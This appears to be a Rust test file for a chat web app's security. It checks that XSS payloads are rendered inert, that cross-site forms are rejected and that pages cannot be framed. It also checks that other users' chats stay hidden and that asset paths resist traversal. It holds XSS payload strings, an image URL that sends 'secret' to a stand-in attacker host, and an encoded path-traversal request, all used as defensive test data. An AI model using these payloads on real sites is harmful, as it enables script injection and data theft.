//! Attacks on pages: scripts in texts, forms of other sites, framing.

use super::Browser;
use crate::world::{Script, World};
use axum::{body::Body, http::Request};
use http_body_util::BodyExt;
use serde_json::json;
use shared::http::{ClientAddress, pages::PublicUrl};
use std::net::IpAddr;
use tower::ServiceExt;

const HOSTILE: &str = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>";

#[tokio::test]
async fn scripts_in_texts_are_inert() {
    let world = World::new();
    let mut browser = Browser::of(&world, "alice").await;
    world.model.next(Script::Answer(
        "<script>alert(1)</script>\n\n[link](javascript:alert(1)) ![image](https://evil.example.com/?q=secret)\n\n<img src=x onerror=alert(1)>",
    ));
    let sent = browser.submit("/chat/messages/", &[("message", HOSTILE)]).await;
    let chat = sent.header("location").split('#').next().unwrap().to_owned();
    let alice = world.anonymous().bearing(&browser.cookies["quintet_session"]);
    let id = chat.trim_matches('/').split('/').nth(1).unwrap();
    assert_eq!(alice.put(&format!("/api/v1/conversations/{id}"), json!({"title": HOSTILE})).await.status, 200);
    assert_eq!(alice.put("/api/v1/users/me", json!({"full_name": HOSTILE})).await.status, 200);
    for path in [chat.clone(), "/".to_owned(), format!("{chat}manage/"), "/search/?q=script".to_owned()] {
        let page = browser.get(&path).await.text;
        let (scripts, images) = (page.matches("<script").count(), page.matches("<img").count());
        assert_eq!((scripts, images), (2, 0), "{path}: {page}");
        assert!(!page.contains("href=\"javascript:") && !page.contains("src=\"http"), "{path}: {page}");
        assert!(!page.contains("<svg onload"), "{path}: {page}");
    }
}

#[tokio::test]
async fn forms_of_other_sites_change_nothing() {
    let world = World::new();
    let mut browser = Browser::of(&world, "alice").await;
    let token = browser.csrf.clone();
    for path in ["/chat/messages/", "/accounts/logout/", "/preferences/"] {
        for (header, value) in [
            ("Origin", "https://evil.example.com"),
            ("Origin", "null"),
            ("Sec-Fetch-Site", "cross-site"),
            ("Sec-Fetch-Site", "same-site"),
        ] {
            let reply = browser.sending(header, value).submit(path, &[("message", "Hello")]).await;
            assert_eq!(reply.status, 403, "{path} {value}: {}", reply.text);
        }
        for wrong in ["", "0", &token.replace(['a', '1'], "0")] {
            browser.csrf = wrong.to_owned();
            let reply = browser.submit(path, &[("message", "Hello")]).await;
            assert_eq!(reply.status, 403, "{path}: {}", reply.text);
            browser.csrf.clone_from(&token);
        }
        let mut other = Browser::of(&world, &format!("user{}", path.len())).await;
        other.csrf.clone_from(&token);
        assert_eq!(other.submit(path, &[("message", "Hello")]).await.status, 403, "{path}");
    }
    let mut visitor = Browser::new(&world);
    visitor.get("/accounts/login/").await;
    let fields = [("username", "alice"), ("password", "password123")];
    assert_eq!(
        visitor.sending("Origin", "https://evil.example.com").submit("/accounts/login/", &fields).await.status,
        403
    );
    visitor.csrf.clear();
    assert_eq!(visitor.submit("/accounts/login/", &fields).await.status, 403);
    assert_eq!(browser.get("/").await.status, 200);
    assert!(browser.get("/").await.text.contains("4,000 tokens"));
}

#[tokio::test]
async fn pages_are_not_framed_kept_or_extended() {
    let world = World::new();
    let mut browser = Browser::of(&world, "alice").await;
    for path in ["/", "/accounts/login/", "/nothing/here", "/chat/018e376b-9ce0-7000-8000-000000000001/"] {
        let page = browser.get(path).await;
        assert_eq!(
            page.header("content-security-policy"),
            "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self' ws://quintet.test ; \
             form-action 'self'; base-uri 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; \
             trusted-types quintet",
            "{path}"
        );
        let others = ["x-frame-options", "x-content-type-options", "cache-control", "referrer-policy"];
        assert_eq!(others.map(|name| page.header(name)), ["DENY", "nosniff", "no-store", "same-origin"], "{path}");
    }
}

#[tokio::test]
async fn behind_a_gateway_paths_have_its_prefix_and_cookies_are_secure() {
    let world = World::new();
    let request =
        Request::get("/").header("host", "quintet.test").extension(ClientAddress(IpAddr::from([203, 0, 113, 1])));
    let request = request.extension(PublicUrl("https://api.example.com/v1".to_owned()));
    let response = world.app.clone().oneshot(request.body(Body::empty()).unwrap()).await.unwrap();
    assert_eq!(response.headers()["location"], "/v1/accounts/login/?next=/");
    let cookie = response.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(cookie.ends_with("; Path=/; SameSite=Lax; HttpOnly; Secure"), "{cookie}");
    let request = Request::get("/accounts/login/")
        .header("host", "quintet.test")
        .extension(ClientAddress(IpAddr::from([203, 0, 113, 1])));
    let request = request.extension(PublicUrl("https://api.example.com/v1".to_owned()));
    let response = world.app.clone().oneshot(request.body(Body::empty()).unwrap()).await.unwrap();
    let page = response.into_body().collect().await.unwrap().to_bytes();
    let page = String::from_utf8_lossy(&page);
    for address in page.split("href=\"").skip(1).chain(page.split("action=\"").skip(1)) {
        assert!(address.starts_with("/v1/"), "{address}");
    }
}

#[tokio::test]
async fn an_unknown_path_is_a_page_with_a_way_home_in_browsers() {
    let world = World::new();
    let mut browser = Browser::new(&world);
    let page = browser.get("/nothing/here").await;
    assert_eq!(page.status, 404);
    assert!(page.text.contains("<h1>Page not found</h1>") && page.text.contains("href=\"/\""), "{}", page.text);
    assert!(page.text.contains("href=\"/docs/\">Documentation of the APIs</a>"), "{}", page.text);
    let api = browser.get("/api/v1/nothing").await;
    assert_eq!(api.body["error_code"], "NOT_FOUND");
}

#[tokio::test]
async fn other_peoples_chats_do_not_exist() {
    let world = World::new();
    let mut alice = Browser::of(&world, "alice").await;
    let mut eve = Browser::of(&world, "eve").await;
    let sent = alice.submit("/chat/messages/", &[("message", "Secret")]).await;
    let chat = sent.header("location").split('#').next().unwrap().to_owned();
    let unknown = "/chat/018e376b-9ce0-7000-8000-000000000001/";
    for rest in ["", "manage/", "export.md", "messages/1/answer.md", "messages/1/stream/"] {
        let (theirs, nobodys) = (eve.get(&format!("{chat}{rest}")).await, eve.get(&format!("{unknown}{rest}")).await);
        assert_eq!((theirs.status, &theirs.text), (404, &nobodys.text), "{rest}");
    }
    for (rest, fields) in
        [("messages/", ("message", "Hi")), ("manage/", ("action", "delete")), ("messages/1/stop/", ("a", "b"))]
    {
        assert_eq!(eve.submit(&format!("{chat}{rest}"), &[fields]).await.status, 404, "{rest}");
    }
    assert_eq!(alice.get(&chat).await.status, 200);
}

#[tokio::test]
async fn assets_are_kept_for_ever_in_their_version_and_not_at_all_in_another() {
    let world = World::new();
    let mut browser = Browser::new(&world);
    let page = browser.get("/accounts/login/").await.text;
    let script = page.split("src=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let asset = browser.get(&script).await;
    assert_eq!(asset.header("content-type"), "text/javascript; charset=utf-8");
    assert_eq!(asset.header("cache-control"), "public, max-age=31536000, immutable");
    let zipped = browser.sending("Accept-Encoding", "br, gzip").get(&script).await;
    assert_eq!(zipped.header("content-encoding"), "gzip");
    assert!(zipped.bytes.len() < asset.bytes.len());
    let old = browser.get("/assets/000000000000/page.js").await;
    assert_eq!((old.status, old.header("cache-control")), (200, "no-store"));
    assert_eq!(old.bytes, asset.bytes);
    assert_eq!(browser.get("/assets/000000000000/nothing.js").await.status, 404);
    assert_eq!(browser.get("/assets/000000000000/..%2f..%2fCargo.toml").await.status, 404);
}
